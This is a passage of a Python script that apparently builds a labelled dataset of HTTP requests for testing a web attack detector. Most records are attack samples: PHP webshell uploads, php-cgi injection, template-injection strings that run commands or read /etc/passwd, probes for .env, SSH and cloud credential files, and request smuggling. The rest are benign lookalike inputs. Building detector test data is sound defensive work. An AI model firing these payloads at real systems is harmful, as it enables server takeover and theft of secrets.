    ("$_SERVER['DOCUMENT_ROOT'].'/x'", "superglobal reference"),
]


def gen_php():
    spec = {
        "paths": ["/index.php", "/page.php", "/wp-admin/admin-ajax.php", "/cms/view.php", "/export.php"],
        "params": ["page", "file", "cmd", "data", "content", "template", "cb", "code", "session"],
        "json_keys": ["template", "data", "content", "filter"],
        "cookie_names": ["data", "prefs", "cart"],
        "api_paths": ["/api/render", "/api/settings", "/wp-json/wp/v2/posts"],
    }
    out = variants(PHP_PAYLOADS, spec, ["none", "x-case"], ["query", "form", "json", "cookie", "multipart"], ["raw", "url", "double", "mixed"], 3, "php")
    # CGI argument injection and webshell uploads
    for q in ["-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "%2dd+allow_url_include%3don+%2dd+auto_prepend_file%3dphp%3a//input",
              "-s", "-d+safe_mode%3dOff+-d+disable_functions%3d%22%22+-d+auto_prepend_file%3d/etc/passwd"]:
        d = finish("POST", f"/index.php?{q}", [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]],
                   "<?php echo md5('x'); die(); ?>", "application/x-www-form-urlencoded")
        d["label"] = "php"
        d["note"] = "php-cgi argument injection with php://input body"
        out.append(d)
    shells = ["<?php system($_GET['cmd']); ?>", "GIF89a;<?php passthru($_POST['c']); ?>", "<?php\n$x=$_REQUEST['k'];\neval(base64_decode($x));\n", "<script language=\"php\">system($_GET[1]);</script>"]
    for sh in shells:
        for fname in ["avatar.php", "image.jpg.php", "photo.phtml", "shell.php5", "x.php;.jpg", "logo.png"]:
            body, ct = multipart([("name", "me", None, None), ("upload", sh, fname, R.choice(["image/jpeg", "application/x-php", "image/png"]))])
            d = finish("POST", R.choice(["/upload.php", "/wp-admin/async-upload.php", "/profile/avatar"]), [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)]], body, ct)
            d["label"] = "php"
            d["note"] = f"php webshell upload as {fname}"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# Server-side template injection
# --------------------------------------------------------------------------------------------

SSTI_PAYLOADS = [
    ("{{7*7}}", "jinja/twig arithmetic probe"),
    ("{{7*'7'}}", "jinja string multiplication probe"),
    ("${7*7}", "el/freemarker probe"),
    ("<%= 7*7 %>", "erb probe"),
    ("#{7*7}", "ruby/el hash probe"),
    ("*{7*7}", "thymeleaf selection probe"),
    ("{{config.items()}}", "flask config"),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", "python mro walk"),
    ("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "flask request globals rce"),
    ("{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", "jinja self context rce"),
    ("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}", "jinja subclass loop"),
    ("{{lipsum.__globals__['os'].popen('whoami').read()}}", "lipsum globals"),
    ("{{cycler.__init__.__globals__.os.popen('id').read()}}", "cycler globals"),
    ("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "freemarker execute"),
    ("#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "velocity runtime"),
    ("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "thymeleaf preprocessing"),
    ("${T(java.lang.System).getenv()}", "spring el type reference"),
    ("{php}echo `id`;{/php}", "smarty php tag"),
    ("{system('cat /etc/passwd')}", "smarty function call"),
    ("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "twig filter callback"),
    ("{{['id']|filter('system')}}", "twig filter system"),
    ("<%= system('id') %>", "erb system"),
    ("<%= `ls /` %>", "erb backticks"),
    ("{{ namespace.__init__.__globals__.os.popen('id').read() }}", "jinja namespace globals"),
    ("${self.module.cache.util.os.system(\"id\")}", "mako module"),
    ("{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}", "pebble forName"),
    ("{% import os %}{{ os.popen(\"id\").read() }}", "tornado import"),
    ("%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", "ognl"),
    ("{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}", "handlebars/node constructor"),
    ("#{T(java.lang.Runtime).getRuntime().exec('id')}", "spring el hash"),
    ("{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}", "flask builtins open"),
    ("${{<%[%'\"}}%\\", "polyglot error probe"),
    ("{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "jinja attr hex-escaped dunder"),
    ("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "jinja attr chain"),
    ("@(1+2)${{7*7}}", "razor + jinja"),
    ("[#assign x=\"freemarker.template.utility.ObjectConstructor\"?new()]${x(\"java.lang.ProcessBuilder\",\"id\").start()}", "freemarker square syntax"),
]


def gen_ssti():
    spec = {
        "paths": ["/preview", "/greeting", "/email/preview", "/render", "/hello", "/page"],
        "params": ["name", "template", "msg", "subject", "q", "greeting", "preview"],
        "json_keys": ["template", "subject", "body", "name"],
        "cookie_names": ["name", "greeting"],
        "api_paths": ["/api/templates/preview", "/api/notifications/test", "/api/v1/pages"],
    }
    return variants(SSTI_PAYLOADS, spec, ["none", "x-prefix"], ["query", "form", "json", "query-mid", "multipart", "cookie", "user-agent"], ["raw", "url", "plus", "double", "mixed"], 3, "ssti")


# --------------------------------------------------------------------------------------------
# Sensitive file probes
# --------------------------------------------------------------------------------------------

SENSITIVE = [
    "/.env", "/.env.production", "/.env.local", "/.env.bak", "/.git/config", "/.git/HEAD", "/.git/index", "/.git/logs/HEAD",
    "/.svn/entries", "/.svn/wc.db", "/.hg/hgrc", "/.bzr/branch-format", "/.DS_Store", "/wp-config.php.bak", "/wp-config.php~",
    "/config.php.old", "/.htaccess", "/.htpasswd", "/web.config.bak", "/backup.sql", "/dump.sql.gz", "/database.sql",
    "/db.sqlite3", "/.aws/credentials", "/.ssh/id_rsa", "/.ssh/authorized_keys", "/server-status", "/server-info",
    "/phpinfo.php", "/info.php", "/.npmrc", "/.dockercfg", "/.docker/config.json", "/docker-compose.yml", "/.bash_history",
    "/WEB-INF/web.xml", "/actuator/env", "/actuator/heapdump", "/.vscode/sftp.json", "/.idea/workspace.xml",
    "/config/database.yml", "/app/etc/local.xml", "/sites/default/settings.php.orig", "/.index.php.swp", "/index.php.swp",
    "/site.tar.gz", "/www.zip", "/backup.zip", "/elmah.axd", "/trace.axd", "/storage/logs/laravel.log",
    "/credentials.json", "/secrets.yml", "/terraform.tfstate", "/.kube/config", "/.pgpass", "/.my.cnf", "/id_rsa",
    "/.git/refs/heads/main", "/.gitconfig", "/composer.json.bak", "/.travis.yml.swp", "/debug.log", "/error_log",
    "/wp-content/debug.log", "/.well-known/../.env", "/config.json.save", "/settings.py.bak", "/_profiler/phpinfo",
]


def gen_sensitive():
    out = []
    prefixes = ["", "", "", "/app", "/api", "/public", "/admin", "/backend", "/laravel", "/static/.."]
    for i, path in enumerate(SENSITIVE):
        for k in range(2 if i % 3 else 3):
            pre = R.choice(prefixes) if k else ""
            q = path
            how = "plain"
            r = R.random()
            if k and r < 0.2 and "/." in q:
                q = q.replace("/.", "/%2e", 1)
                how = "encoded dot"
            elif k and r < 0.3 and "e" in q:
                i_e = q.rindex("e")
                q = q[:i_e] + "%65" + q[i_e + 1:]
                how = "encoded letter"
            elif k and r < 0.4:
                q = q + R.choice(["?", "?v=1", ";", "%20", "."])
                how = "trailing junk"
            elif k and r < 0.5:
                q = "/" + q
                how = "double slash"
            p = pre + q
            headers = [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(ATTACK_UAS)], ["Accept", "*/*"]]
            d = finish(R.choice(["GET", "GET", "GET", "HEAD"]), p, headers)
            d["label"] = "sensitive_file"
            d["note"] = f"probe for {path} ({how}{', prefix ' + pre if pre else ''})"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# Scanner / attack tool fingerprints (benign-looking paths, tool identity in headers)
# --------------------------------------------------------------------------------------------

SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap/1.8.4#dev (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "feroxbuster/2.10.2", "Wfuzz/3.1.0", "WhatWeb/0.5.5",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix Web Vulnerability Scanner)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36 Netsparker",
    "w3af.org", "Arachni/v1.5.1", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", "commix/v3.8-stable (https://commixproject.com)",
    "Mozilla/4.0 (Hydra)",
    "Mozilla/5.0 (compatible; ZmEu)", "Morfeus Fucking Scanner", "Paros/3.2.13",
    "Jorgee",
]
SCANNER_HEADERS = [
    ("Acunetix-Aspect", "enabled"), ("Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"),
    ("X-Scanner", "Netsparker"), ("X-WIPP", "AscVersion=22.2.0"),
]
SCANNER_PATHS = ["/", "/index.html", "/login", "/wp-login.php", "/admin/", "/robots.txt", "/products?id=1", "/search?q=test",
                 "/nessus_is_probing_you_", "/acunetix-wvs-test-for-some-inexistent-file", "/Nikto-2.1.6-test.cgi", "/sqlmap_probe.php",
                 "/api/v1/users", "/cgi-bin/", "/.well-known/nuclei-probe"]


def gen_scanner():
    out = []
    for ua in SCANNER_UAS:
        for k in range(3):
            path = R.choice(SCANNER_PATHS[:8] + SCANNER_PATHS[12:14]) if k < 2 else R.choice(SCANNER_PATHS)
            d = finish(R.choice(["GET", "GET", "HEAD", "POST"]) if k else "GET", path, [["Host", R.choice(HOSTS)], ["User-Agent", ua], ["Accept", "*/*"]])
            d["label"] = "scanner"
            d["note"] = f"scanner user agent: {ua[:70]}"
            out.append(d)
    for name, value in SCANNER_HEADERS:
        for k in range(3):
            d = finish("GET", R.choice(SCANNER_PATHS), [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(BROWSER_UAS)], ["Accept", "*/*"], [name, value]])
            d["label"] = "scanner"
            d["note"] = f"scanner header {name}"
            out.append(d)
    for path in SCANNER_PATHS[8:10]:
        for k in range(3):
            d = finish("GET", path, [["Host", R.choice(HOSTS)], ["User-Agent", R.choice(BROWSER_UAS)], ["Accept", "*/*"]])
            d["label"] = "scanner"
            d["note"] = "scanner canary path with a browser user agent"
            out.append(d)
    return out


# --------------------------------------------------------------------------------------------
# Protocol anomalies (representable as method / target / headers)
# --------------------------------------------------------------------------------------------

def gen_protocol():
    out = []

    def add(method, target, headers, note, body=None):
        d = {"method": method, "target": target, "headers": headers}
        if body is not None:
            d["body"] = body
        d["label"] = "protocol"
        d["note"] = note
        out.append(d)

    def base(host=True):
        h = [["User-Agent", R.choice(ATTACK_UAS)], ["Accept", "*/*"]]
        if host:
            h.insert(0, ["Host", R.choice(HOSTS)])
        return h

    smuggle_body = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    for te in ["chunked", "Chunked", " chunked", "chunked, identity", "identity, chunked", "xchunked", "chunked\t", "cHuNkEd"]:
        h = base() + [["Content-Length", str(len(smuggle_body))], ["Transfer-Encoding", te]]
        add("POST", "/api/upload", h, f"both Content-Length and Transfer-Encoding ({te!r})", smuggle_body)
    for te in ["chunked", "chunked"]:
        h = base() + [["Transfer-Encoding", te], ["Content-Length", "4"]]
        add("POST", "/", h, "Transfer-Encoding before Content-Length", "5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n")
    for te in [["chunked", "identity"], ["identity", "chunked"], ["chunked", "chunked"]]:
        h = base() + [["Transfer-Encoding", te[0]], ["Transfer-Encoding", te[1]]]
        add("POST", "/submit", h, "duplicate Transfer-Encoding headers", "0\r\n\r\n")
    for te in ["gzip", "deflate, x", "compress", "chunked;q=1", "chunked-false"]:
        add("POST", "/submit", base() + [["Transfer-Encoding", te]], f"unusual Transfer-Encoding {te!r}", "0\r\n\r\n")
    for cl in ["abc", "-1", "1e3", "+12", "0x10", "1 2", "5, 6", "4.0", "18446744073709551616", "", "13abc"]:
        add("POST", "/login", base() + [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", cl]], f"malformed Content-Length {cl!r}", "user=a&pass=b")
    for a, b in [("5", "7"), ("13", "0"), ("13", "130")]:
        add("POST", "/login", base() + [["Content-Length", a], ["Content-Length", b]], f"duplicate Content-Length {a} / {b}", "user=a&pass=b")
    for m, t in [("GET", "/"), ("GET", "/index.html"), ("POST", "/api/login"), ("GET", "/admin")]:
        add(m, t, base(host=False), "missing Host header", "{}" if m == "POST" else None)
    add("GET", "/", [["Host", ""], ["User-Agent", R.choice(ATTACK_UAS)]], "empty Host header")
    add("GET", "/", [["Host", "shop.example.com"], ["Host", "evil.example"], ["User-Agent", R.choice(ATTACK_UAS)]], "duplicate Host headers")
    add("GET", "/", [["Host", "shop.example.com evil.example"], ["User-Agent", R.choice(ATTACK_UAS)]], "Host with a space")
    add("GET", "/", [["Host", "shop.example.com:80:90"], ["User-Agent", R.choice(ATTACK_UAS)]], "Host with two ports")
    for n in [150, 180, 300]:
        h = base() + [[f"X-Custom-{i}", rand_token(8)] for i in range(n)]
        add("GET", "/", h, f"{n} headers")
    h = base() + [["X-Pad", "A" * 20000]]
    add("GET", "/", h, "single 20000-byte header value")
    h = base() + [["Range", "bytes=" + ",".join(f"{i * 5}-{i * 5 + 1}" for i in range(300))]]
    add("GET", "/static/video.mp4", h, "Range header with 300 ranges")
    h = base() + [["Range", "bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-,10-,11-,12-,13-,14-,15-,16-,17-,18-,19-,20-,21-,22-,23-,24-,25-,26-,27-,28-,29-,30-,31-,32-,33-,34-,35-,36-,37-,38-,39-,40-,41-,42-,43-,44-,45-,46-,47-,48-,49-,50-,51-,52-,53-,54-,55-,56-,57-,58-,59-,60-,61-,62-,63-,64-,65-,66-,67-,68-,69-,70-,71-,72-,73-,74-,75-,76-,77-,78-,79-,80-"]]
    add("GET", "/download/big.iso", h, "overlapping Range (apache killer style)")
    for m in ["TRACE", "TRACK", "DEBUG", "FOO", "JEFF", "get", "G%45T", "GETS", "CONNECT", "SEARCH", "PROPFIND", "MKCOL", "X" * 40, "PRI", "HELLO"]:
        add(m, "/" if m not in ("CONNECT",) else "/index.html", base(), f"unusual method {m[:20]!r}")
    for t in ["/index.html#frag", "/a\\b\\c.aspx", "*", "/search?q=a b", "/%", "/%zz%zz", "/path?x=%G1", "/\x7f/x"]:
        add("GET", t, base(), f"malformed request target {t!r}")
    for name, value in [["Content-Type", "application/x-www-form-urlencoded\r\nX-Injected: 1"], ["X-Foo", "bar\nbaz"], ["Transfer-Encoding\t", "chunked"],
                        ["Content-Length ", "10"], ["X Bad Name", "1"], ["Connection", "keep-alive, Transfer-Encoding"],
                        ["Connection", "close, Content-Length, X-Forwarded-For"], ["Expect", "100-continuex"], ["Content-Encoding", "gzip, gzip, gzip, gzip, gzip, gzip, gzip, gzip"]]:
        add("POST", "/api/items", base() + [[name, value]], f"malformed header {name!r}: {value[:30]!r}", "{}")
    add("GET", "/", base() + [["Content-Length", "11"]], "GET with a body", "hello=world")
    add("HEAD", "/", base() + [["Content-Length", "9"]], "HEAD with a body", "surprise!")
    return out


# --------------------------------------------------------------------------------------------
# Benign traffic: hard cases for a false-positive measurement
# --------------------------------------------------------------------------------------------

NAMES = ["Siobhan O'Brien", "Marco D'Angelo", "Conor O'Neil", "Aminata N'Diaye", "Rosa Dell'Acqua", "Priya D'Souza",
         "Liam O'Connor", "Shaquille O'Neal", "Jean-Luc D'Arcy", "Mary-Kate O'Reilly", "Giovanni D'Amico", "Patrick O'Hara",
         "Nnamdi N'Goran", "Zoë Saldaña", "José Álvarez", "Björn Ångström", "Chloé L'Heureux", "Dara Ó Briain", "Seán Ó'Laoire",
         "Ngũgĩ wa Thiong'o", "Renée Zellweger", "Taika Waititi", "Miles O'Brien-Smith", "Keira D'Alessandro", "Ola Nordmann",
         "Emma Select", "Harold Union", "Tom Drop", "Jane Or", "Bob And", "Grace Script", "Victor Alert", "Anna Exec",
         "Tobias Sleep", "Deirdre Benchmark", "Wang Wei (王伟)", "Yuki Tanaka (田中 由紀)", "Fatima Al-Zahra (فاطمة الزهراء)",
         "Olga Ivanova (Ольга Иванова)", "Arjun Mehta (अर्जुन मेहता)", "Kim Min-jun (김민준)", "Ng Ka-ming (吳家明)"]

CITIES = ["Dublin", "Cork", "L'Aquila", "Val-d'Or", "Coeur d'Alene", "'s-Hertogenbosch", "São Paulo", "Zürich", "Kraków",
          "Reykjavík", "Saint-Jean-d'Angély", "Town & Country", "Winston-Salem", "München", "東京", "Москва", "القاهرة"]

STREETS = ["12 O'Connell St.", "4B Rue de l'Église", "221B Baker Street; ring twice", "Apt #5, 77 Union Square", "1600 Amphitheatre Pkwy",
           "Flat 3/2, 10 Drop Lane", "Unit 7 & 8, Select Business Park", "PO Box 1234 (rear entrance)", "Calle d'Alcalá 42, 3º izq.",
           "100 Main St <use side door>", "Hauptstraße 5 | Hinterhaus", "15 Exec Drive, Suite 100"]

PROSE = [
    "Please select the union option from the dropdown and then drop the old file from the list.",
    "I ordered 1 or 2 of these last year and they were great, so I'm ordering again.",
    "Select your size carefully: the union of small and medium sizing charts is confusing.",
    "The script at the end of the play was written by a student, and it's brilliant.",
    "Don't forget to drop by the office and pick up your badge; reception closes at 5.",
    "Is the Union Jack cushion available in navy? I'd like 2 & maybe 3.",
    "My son (age 7) loves this toy <3 highly recommended!!",
    "Price went from $40 to $25 -- that's 37.5% off, amazing deal.",
    "We need to execute the plan by Friday; the exec team will review it & sign off.",
    "If x < 10 and y > 3 the discount applies, otherwise it doesn't. Confusing rules.",
    "Alert: the store on Main St. will be closed on Monday for inventory.",
    "Use the ../ link at the top of the page to go back to the parent folder in the file browser.",
    "Can you delete from my account the old address? It still shows 'Flat 2'.",
    "The drop-down menu doesn't let me select 'Other' as my country.",
    "I'd rate it 4/5 -- shipping was slow, but the product itself is 'as advertised'.",
    "Tom & Jerry, Rock & Roll, Salt & Pepper: all three mugs arrived intact.",
    "Where do I insert the batteries? The manual says 'into the slot marked +/-'.",
    "Our union meeting is on Tuesday; select members will present the new contract.",
    "Sleep quality improved after a week -- I'd say 8/10 compared to 5/10 before.",
    "Order #10293 arrived damaged; the box said 'THIS SIDE UP' but it was upside down.",
    "I can't log in; it says \"invalid password\" even though I reset it twice.",
    "Is it 1=1 scale or smaller? The listing says '1:1 replica'.",
    "The 'Select' and 'Union' collections look great together on the shelf.",
    "My name is O'Hara and your form keeps rejecting the apostrophe in it!",
    "Why does the checkout page say 'script error' when I use Safari on iOS 17?",
    "Great course! The part about where, group by and order by in reports was very clear.",
    "Hello; I'd like to update my billing address | new: 12 Market Square.",
    "She said 'drop it' and the dog did -- training works, thanks for the tips!",
    "Version 2.0 > version 1.9, obviously, but is the upgrade worth it?",
    "Wait -- is this the same as the one from 2019? Or a new model?",
    "The film 'Select Committee' and the book 'Union Street' are both on my list.",
    "Type cd .. in the terminal to move up one directory, then ls to list files.",
    "I want to cancel my subscription; I clicked 'Execute cancellation' and nothing happened.",
    "It's a 50/50 chance whether the courier rings the bell or just leaves a note.",
    "The 'Benchmark' edition is faster but the 'Sleep' mode drains the battery.",
    "We love the <b>bold</b> colours and the soft fabric!",
    "The instructions say: unplug, wait 30 seconds, plug back in && hold reset.",
    "From the table, select the row you want and press Delete, then confirm.",
    "Q: is 'null' a valid answer? A: no, please enter N/A instead.",
    "Our shop's opening hours are Mon-Fri 9:00-17:00; Sat 10:00-14:00.",
    "You can email me at siobhan.obrien+orders@example.ie or call +353 (1) 555-0142.",
    "I have 3 kids & 2 dogs; this vacuum handles the hair really well.",
    "The sign said 'Exit ->' but the door was locked.",
    "Loved the hotel; the 'Union' suite had a great view over the bay.",
    "Regarding the invoice: the total (incl. VAT @ 23%) should be 123.00 EUR, not 132.00.",
    "Please don't use alert() style pop-ups on the site, they're annoying on mobile.",
    "The recipe says: mix flour & sugar, then add 2 eggs; bake at 180°C for 25 min.",
    "When I select 'Ireland' the county list is empty -- bug?",
    "Works on Windows 11, not on Windows 7 (drivers missing).",
    "Team members: Alice, Bob and/or Carol -- whoever is available.",
    "My score was 98% -- or was it 89%? I can't remember.",
    "I found the answer on page 12; see section 3.2 (\"Configuration\").",
    "The new album 'Drop Table' by the band SQL Kids is fantastic, 10/10.",
    "Ctrl+C then Ctrl+V doesn't work in the comment box; I had to type it manually.",
    "Thanks!! 🙏🙏 Arrived in 2 days, perfect condition 👍",
    "Très bien, livraison rapide ; je recommande à 100 % !",
    "Sehr gut verarbeitet, aber die Anleitung (auf Deutsch) ist schwer zu verstehen.",
    "商品はとても良かったです。また購入したいと思います！",
    "Очень довольна покупкой, всё пришло вовремя.",
    "المنتج ممتاز والتوصيل كان سريعاً جداً",
    "物流很快，质量也不错，就是颜色和图片有点差别。",
    "बहुत अच्छा उत्पाद है, मैं इसे फिर से खरीदूँगा।",
    "배송이 빨라서 좋았어요! 다음에도 주문할게요.",
]

SEARCHES = [
    "select dress", "union jack flag", "drop earrings", "script font", "alert bracelet", "or 1 more", "rock & roll t-shirt",
    "c++ vs c#", "what does 1=1 mean", "tom & jerry dvd", "<3 necklace", "50% off shoes", "size > 10 boots", "o'neill wetsuit",
    "d'addario strings", "l'oreal shampoo", "men's watch", "kids' shoes", "exec chair", "sleep mask", "benchmark ssd",
    "how to use select in sql", "union type typescript", "node path ../", "bash && vs ;", "python if x < 5", "html <br> tag",
    "javascript alert box", "drop table meaning", "what is sql injection", "xss explained", "etc/passwd format", "cat /proc/cpuinfo",
    "wget vs curl", "ping command windows", "shell script tutorial", "jinja {{ }} syntax", "php echo vs print", "log4j ${} lookup syntax",
    "sleep(5) in python", "where is the union station", "sql order by desc", "1/2 inch drill bit", "a|b|c pipe", "ac/dc poster",
    "\"exact phrase\"", "price:<100 category:shoes", "tag:javascript -jquery", "C:\\Program Files", "~/Documents", "100% cotton",
    "cats & dogs", "pizza near me", "emoji 😂", "咖啡机", "кофеварка", "مكنسة كهربائية", "वॉशिंग मशीन", "노트북 가방",
    "select * from reviews", "1' OR mug", "dad's birthday gift", "o'brien's pub", "who's online", "--verbose flag",
    "#hashtag", "@mention", "email@example.com", "$100 gift card", "^_^ sticker", "[brackets] (parens) {braces}",
]

REDIRECT_URLS = [
    "/account/settings", "/checkout?step=2", "https://shop.example.com/cart", "https://app.example.com/dashboard?tab=billing&range=30d",
    "https://www.example.org/blog/2024/05/select-the-right-union-plan", "/orders/10293#details", "https://accounts.example.com/o/oauth2/auth?client_id=abc&scope=openid%20email",
    "https://docs.example.com/guide/getting-started/", "https://www.google.com/search?q=union+jack+cushion", "/", "/en-gb/products/tee?colour=navy&size=m",
    "https://example.atlassian.net/browse/PROJ-1234", "https://github.com/example/repo/pull/42/files", "https://calendar.example.com/event?id=77&tz=Europe/Dublin",
    "http://localhost:3000/callback", "https://app.example.net/reports/q3.pdf", "mobile-app://open/orders/5", "https://cdn.example.com/files/report-final.v2.xlsx",
]


def bq(s):
    return quote_plus(s, safe="")


def benign_record(cat, d, note):
    d["label"] = "benign"
    d["category"] = cat
    d["note"] = note
    return d


def random_host():
    return R.choice(["shop.example.com", "www.example.org", "app.example.net", "api.example.com", "forum.example.dev", "blog.example.ie"])


def b_get(target, referer=None, cookies=True, ua=None, accept=ACCEPT_HTML):
    host = random_host()
    ck = session_cookies() + analytics_cookies() if cookies else None
    return finish("GET", target, browser_headers(host, ua=ua, referer=referer, cookies=ck, accept=accept))


def b_body(method, target, body, ctype, referer=None, ua=None, accept="application/json, text/plain, */*", extra=None):
    host = random_host()
    h = browser_headers(host, ua=ua, referer=referer or f"https://{host}/", cookies=session_cookies() + analytics_cookies(), accept=accept)
    if extra:
        h += extra
    return finish(method, target, h, body, ctype)


def gen_benign_names():
    out = []
    for name in NAMES:
        first, _, last = name.partition(" ")
        city = R.choice(CITIES)
        street = R.choice(STREETS)
        email = "".join(c for c in (first + "." + last.split(" ")[0]).lower() if c.isalnum() or c == ".") + "@example.com"
        if not email[0].isalpha():
            email = "user" + email
        # registration form
        body = "&".join(f"{k}={bq(v)}" for k, v in [("first_name", first), ("last_name", last), ("email", email),
                                                      ("address", street), ("city", city), ("password", "Tr0ub4dor&3;x|" + rand_token(4)), ("terms", "on")])
        out.append(benign_record("names", b_body("POST", "/account/register", body, "application/x-www-form-urlencoded", accept=ACCEPT_HTML), "registration form with an apostrophe/non-ASCII name"))
        # search for people by name
        out.append(benign_record("names", b_get(f"/directory/search?name={bq(name)}&dept=all"), "directory search by name"))
        out.append(benign_record("names", b_get(f"/directory/search?name={enc_min(name)}"), "directory search by name, raw apostrophe"))
        # JSON profile update
        body = json.dumps({"profile": {"displayName": name, "city": city, "address": {"line1": street, "country": R.choice(["IE", "IT", "FR", "US", "DE", "JP"])},
                                       "newsletter": R.random() < 0.5, "age": R.randint(18, 90)}}, ensure_ascii=False)
        out.append(benign_record("names", b_body("PATCH", "/api/v1/me", body, "application/json"), "profile update JSON with name and address"))
        # shipping label in query
        out.append(benign_record("names", b_get(f"/shipping/quote?to={bq(name)}&city={bq(city)}&street={bq(street)}&weight=1.2"), "shipping quote with address in query"))
    return out


def gen_benign_prose():
    out = []
    for i in range(260):
        text = " ".join(R.sample(PROSE, R.randint(1, 4)))
        kind = i % 5
        if kind == 0:
            body = f"product_id={R.randint(100, 9999)}&rating={R.randint(1, 5)}&review={bq(text)}&author={bq(R.choice(NAMES))}"
            d = b_body("POST", "/reviews", body, "application/x-www-form-urlencoded", accept=ACCEPT_HTML)
            note = "product review form"
        elif kind == 1:
            body = json.dumps({"ticket": {"subject": text[:60], "body": text, "priority": R.choice(["low", "normal", "high"]), "tags": ["web", "checkout"], "order_id": R.randint(10000, 99999)}}, ensure_ascii=False)
            d = b_body("POST", "/api/support/tickets", body, "application/json")
            note = "support ticket JSON"
        elif kind == 2:
            d = b_get(f"/community/comments?thread={R.randint(1, 9000)}&preview={bq(text[:120])}")
            note = "comment preview in query"
        elif kind == 3:
            body = json.dumps({"comment": text, "parent_id": None if R.random() < 0.5 else R.randint(1, 5000), "mentions": [], "draft": False}, ensure_ascii=False)
            d = b_body("POST", f"/api/posts/{R.randint(1, 9999)}/comments", body, "application/json")
            note = "comment JSON"
        else:
            body, ct = multipart([("subject", text[:50], None, None), ("message", text, None, None), ("attachment", "", "", "application/octet-stream")])
            d = b_body("POST", "/contact", body, ct, accept=ACCEPT_HTML)
            note = "contact form (multipart, empty attachment)"
        out.append(benign_record("prose", d, note))
    return out


SQL_SNIPPETS = [
    "SELECT u.id, u.name, COUNT(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE o.created_at > NOW() - INTERVAL '30 days'\nGROUP BY u.id, u.name\nORDER BY orders DESC\nLIMIT 10;",
    "SELECT name FROM customers\nUNION\nSELECT name FROM suppliers\nORDER BY name;",
    "UPDATE accounts SET balance = balance - 100 WHERE id = $1;\nUPDATE accounts SET balance = balance + 100 WHERE id = $2;",
    "DELETE FROM sessions WHERE expires_at < now();",
    "CREATE INDEX CONCURRENTLY idx_orders_user ON orders (user_id, created_at DESC);",
    "SELECT * FROM products WHERE name LIKE '%' || ? || '%' AND price BETWEEN 10 AND 50;",
    "INSERT INTO tags (name) VALUES ('rust'), ('sql'), ('web') ON CONFLICT DO NOTHING;",
    "WITH ranked AS (\n  SELECT *, ROW_NUMBER() OVER (PARTITION BY team ORDER BY score DESC) AS rn FROM results\n)\nSELECT * FROM ranked WHERE rn <= 3;",
    "ALTER TABLE users ADD COLUMN last_login timestamptz;\nDROP INDEX IF EXISTS idx_old;",
    "SELECT CASE WHEN qty > 10 THEN 'bulk' ELSE 'retail' END AS kind, SUM(total) FROM sales GROUP BY 1;",
    "SELECT id FROM t WHERE deleted_at IS NULL AND (status = 'open' OR status = 'pending');",
]
JS_SNIPPETS = [
    "document.getElementById('save').addEventListener('click', () => {\n  if (!form.checkValidity()) alert('Please fill in all fields');\n});",
    "const res = await fetch(`/api/items?page=${page}`);\nconst data = await res.json();\nconsole.log(data.items.length > 0 && data.items[0]);",
    "useEffect(() => {\n  const id = setTimeout(() => setOpen(false), 3000);\n  return () => clearTimeout(id);\n}, []);",
    "<button onClick={() => setCount(count + 1)}>Clicked {count} times</button>",
    "const safe = DOMPurify.sanitize(dirty);\nel.innerHTML = safe; // is this enough?",
    "window.location.href = returnUrl || '/';",
    "<script src=\"https://cdn.example.com/lib/chart.umd.min.js\"></script>\n<div id=\"chart\"></div>",
    "arr.filter(x => x > 2 && x < 10).map(x => x * 2).reduce((a, b) => a + b, 0);",
    "<img src=\"/static/logo.png\" alt=\"Logo\" width=\"120\">",
    "$('#menu').on('click', 'a', function (e) { e.preventDefault(); });",
]
SHELL_SNIPPETS = [
    "cd ../ && npm install && npm run build",
